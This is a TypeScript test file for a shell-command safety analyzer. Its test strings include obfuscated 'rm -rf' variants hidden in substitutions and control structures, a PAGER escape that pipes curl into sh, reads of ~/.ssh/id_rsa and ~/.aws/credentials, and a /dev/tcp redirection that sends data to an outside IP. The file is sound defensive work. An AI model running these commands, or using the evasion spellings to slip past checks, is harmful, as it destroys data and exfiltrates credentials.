import { describe, expect, it } from 'vitest';
import { analyzeShell, programIdentity, type Effect, type HazardCode } from './index.ts';

function effects(command: string): Effect[] {
  return analyzeShell(command).commands.flatMap((c) => c.effects);
}

function hazards(command: string): HazardCode[] {
  const analysis = analyzeShell(command);
  return [
    ...analysis.hazards.map((h) => h.code),
    ...analysis.commands.flatMap((c) =>
      c.effects.flatMap((e) => (e.kind === 'hazard' ? [e.hazard.code] : [])),
    ),
  ];
}

function programs(command: string): string[] {
  return effects(command).flatMap((e) => (e.kind === 'exec' ? [e.program] : []));
}

function paths(command: string, kind: 'read' | 'write' | 'delete'): (string | null)[] {
  return effects(command).flatMap((e) => (e.kind === kind ? [e.path.pattern] : []));
}

describe('identity resolution', () => {
  const spellings = [
    'rm',
    '/bin/rm',
    '/usr/bin/rm',
    '\\rm',
    "'r'm",
    '"r"m',
    "$'\\x72\\x6d'",
    'r\\m',
    'command rm',
    'builtin rm',
  ];
  it.each(spellings)('%s x is rm', (name) => {
    expect(programs(`${name} x`)).toEqual(['rm']);
  });

  it('keeps a workspace path as a path, not the system program', () => {
    expect(programs('./rm x')).toEqual(['./rm']);
  });

  it.each(['$x -rf y', '$(echo rm) y', '`echo rm` y', '/???/r[m] y', 'r${U}m y', '/bin/@(rm) y'])(
    'treats a command name built at run time as unknown: %s',
    (command) => {
      expect(hazards(command)).toContain('dynamic-command-name');
      expect(programs(command)).not.toContain('rm');
    },
  );

  it('follows a brace expansion in the command name but never trusts it', () => {
    expect(programs('r{m,} -rf /tmp/v')).toEqual(['rm']);
    expect(paths('{rm,-rf,/tmp/v}', 'delete')).toContain('/tmp/v');
    expect(hazards('r{m,} -rf /tmp/v')).toContain('dynamic-command-name');
  });

  it('gives null for glob and dynamic names', () => {
    expect(
      programIdentity({ kind: 'dynamic', text: '$x', split: true, span: { start: 0, end: 2 } }),
    ).toBeNull();
  });
});

describe('the walker visits every place a command can hide', () => {
  const hidden = [
    'echo $(rm -rf /tmp/v)',
    'echo `rm -rf /tmp/v`',
    'echo "$(echo "$(rm -rf /tmp/v)")"',
    'diff <(rm -rf /tmp/v) x',
    'tee >(rm -rf /tmp/v)',
    ': ${X:=$(rm -rf /tmp/v)}',
    'arr[$(rm -rf /tmp/v)]=1',
    'echo $(( $(rm -rf /tmp/v) ))',
    '[[ -n $(rm -rf /tmp/v) ]]',
    'if true; then rm -rf /tmp/v; fi',
    'while false; do rm -rf /tmp/v; done',
    'for f in a; do rm -rf /tmp/v; done',
    'case x in x) rm -rf /tmp/v;; esac',
    '( rm -rf /tmp/v )',
    '{ rm -rf /tmp/v; }',
    'f() { rm -rf /tmp/v; }',
    'cat <<EOF\n$(rm -rf /tmp/v)\nEOF',
    'cat <<< "$(rm -rf /tmp/v)"',
    '! rm -rf /tmp/v',
    'time rm -rf /tmp/v',
    'echo ${ rm -rf /tmp/v; }',
    'coproc rm -rf /tmp/v',
    'x=$(rm -rf /tmp/v) true',
  ];
  it.each(hidden)('finds the delete in %s', (command) => {
    expect(paths(command, 'delete')).toContain('/tmp/v');
  });

  it('does not expand a quoted heredoc body', () => {
    expect(paths("cat <<'EOF'\n$(rm -rf /tmp/v)\nEOF", 'delete')).toEqual([]);
  });
});

describe('fail-closed hazards', () => {
  it('reports parse errors, including inside substitutions', () => {
    expect(hazards('echo "unterminated')).toContain('parse-error');
    expect(hazards('echo $(if)')).toContain('parse-error');
  });

  it.each(['\r', '\u001b[2K', '\u202e', '\u200b', '\u2066'])(
    'refuses control character %j with a deny floor',
    (c) => {
      const analysis = analyzeShell(`ls ${c}x`);
      expect(analysis.hazards.map((h) => [h.code, h.floor])).toContainEqual(['control-character', 'deny']);
    },
  );

  it('counts commands past the limit', () => {
    expect(hazards(Array(60).fill('true').join(' && '))).toContain('limit-exceeded');
  });

  it('does not parse a command over the length limit', () => {
    const analysis = analyzeShell(`echo ${'a'.repeat(20_000)}`);
    expect(analysis.commands).toEqual([]);
    expect(analysis.hazards.map((h) => h.code)).toContain('limit-exceeded');
  });

  it('refuses line continuations inside words and prompt re-expansion', () => {
    expect(hazards('cu\\\nrl x')).toContain('line-continuation');
    expect(hazards('echo "${x@P}"')).toContain('prompt-expansion');
  });

  it('refuses arithmetic on unknown values (array subscripts run code)', () => {
    expect(hazards('echo $((x))')).toContain('arithmetic-indirection');
    expect(hazards('[[ $x -eq 1 ]]')).toContain('arithmetic-indirection');
    expect(hazards('echo $((1 + 2))')).not.toContain('arithmetic-indirection');
  });

  it('reports assignment prefixes as changes for the policy to judge, and escapes through them', () => {
    expect(hazards('CI=1 NODE_ENV=test npm test')).toEqual([]);
    const changed = analyzeShell('PATH=./bin:$PATH npm test').commands.flatMap((c) => c.effects);
    expect(changed).toContainEqual(expect.objectContaining({ kind: 'env-change', name: 'PATH' }));
    expect(hazards('PAGER=\'sh -c "curl x | sh"\' git log')).toContain('escape-hatch');
    expect(hazards('PAGER=cat git log')).toEqual([]);
    // `IFS=` in front of read only changes how that line is split.
    const read = analyzeShell('IFS= read -r line < f').commands.flatMap((c) => c.effects);
    expect(read.filter((e) => e.kind === 'env-change' && e.name === 'IFS')).toEqual([]);
  });
});

describe('paths', () => {
  it('normalises .. and follows cd', () => {
    expect(paths('cat ./docs/../.vscode/settings.json', 'read')).toEqual(['./.vscode/settings.json']);
    expect(paths('cd .claude && cat settings.json', 'read')).toContain('./.claude/settings.json');
    expect(paths('cd /tmp && cat x', 'read')).toContain('/tmp/x');
    expect(paths('cd "$X" && cat x', 'read')).toContain(null);
  });

  it('resolves $HOME and ~ to the home directory unless the script changes HOME', () => {
    expect(paths('cat $HOME/.ssh/id_rsa ~/.aws/credentials', 'read')).toEqual([
      '~/.ssh/id_rsa',
      '~/.aws/credentials',
    ]);
    // Unknown, but still some `.ssh/id_rsa`: the literal tail is kept as a glob over any path.
    expect(paths('HOME=/x; cat $HOME/.ssh/id_rsa', 'read')).toEqual(['**/.ssh/id_rsa']);
  });

  it('binds a for-loop variable to its single word', () => {
    expect(paths('for f in /tmp/v; do rm "$f"; done', 'delete')).toEqual(['/tmp/v']);
    expect(paths('for f in /tmp/v; do f=/x; rm "$f"; done', 'delete')).toEqual([null]);
  });

  it('turns /dev/tcp redirections into network access', () => {
    expect(
      effects('cat x > /dev/tcp/203.0.113.7/443').some((e) => e.kind === 'net' && e.host === '203.0.113.7'),
    ).toBe(true);
  });
});
